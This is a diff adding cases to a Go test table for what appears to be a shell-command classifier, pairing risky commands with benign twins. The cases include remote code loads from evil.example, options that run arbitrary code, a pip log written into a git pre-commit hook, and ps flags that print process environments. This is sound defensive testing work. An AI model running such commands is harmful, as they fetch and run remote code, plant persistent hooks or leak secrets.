@@ -83,6 +83,9 @@ func recognisedCatalogue() []classCase {
 		{code, "deno's remote import map", sh(`deno test --import-map https://evil.example/x.json`), opaque, sh(`deno test --config deno.json`), false},
 		{code, "deno check of a remote module", sh(`deno check https://evil.example/x.ts`), opaque, sh(`deno check main.ts`), false},
 		{code, "pip runs the python it is given", sh(`pip list --python=/tmp/x`), opaque, sh(`pip list --format=freeze`), false},
+		{code, "dotnet's option with its value after a colon", sh(`dotnet test --test-adapter-path:/tmp/x`), opaque,
+			sh(`dotnet test --settings:ci.runsettings`), false},
+		{write, "python -m pip's log", sh(`python -m pip list --log .git/hooks/pre-commit`), noWrite, sh(`python -m pip list --log /tmp/pip.log`), false},
 		{code, "python -m pip read as pip", sh(`python -m pip --python /tmp/x list`), opaque, sh(`python -m pip list`), false},
 		{code, "a pnpmfile's hooks", sh(`pnpm ls --pnpmfile /tmp/x.cjs`), opaque, sh(`pnpm ls --pnpmfile .pnpmfile.cjs`), false},
 		{code, "another npmrc's script-shell", sh(`npm test --userconfig ~/x/npmrc`), opaque, sh(`npm test --userconfig .npmrc.ci`), false},
@@ -117,6 +120,8 @@ func recognisedCatalogue() []classCase {
 		{ps, "ps -axe", sh(`ps -axe`), asked(dc + "print-environment-ps"), sh(`ps -ef`), false},
 		{ps, "ps -ex", sh(`ps -ex`), asked(dc + "print-environment-ps"), sh(`ps -eLf`), false},
 		{ps, "ps -auxe", sh(`ps -auxe`), asked(dc + "print-environment-ps"), sh(`ps aux`), false},
+		{ps, "a separate -x makes -e BSD's e", sh(`ps -e -o pid,args -x`), asked(dc + "print-environment-ps"), sh(`ps -e -o pid,args`), false},
+		{ps, "-x before -ef", sh(`ps -x -ef`), asked(dc + "print-environment-ps"), sh(`ps -ef --forest`), false},
 	}
 }
 
